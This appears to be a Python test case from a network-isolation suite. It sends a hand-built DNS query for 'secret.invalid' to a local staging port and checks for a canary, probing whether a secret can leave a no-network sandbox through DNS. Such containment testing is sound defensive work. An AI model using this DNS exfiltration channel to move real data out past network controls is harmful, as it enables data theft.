# name: carry a secret out in a DNS question
# line: 52
# networks: none hosts
import socket

from attack import STAGE, canary_in, try_each

# A DNS query for the A record of "secret.invalid".
QUESTION = b"\0\1\1\0\0\1\0\0\0\0\0\0\6secret\7invalid\0\0\1\0\1"


def asked():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(1)
        one.connect(("127.0.0.1", STAGE["udp_port"]))
        one.send(QUESTION)
        return canary_in(one.recv(100))


try_each([("a question", asked)])
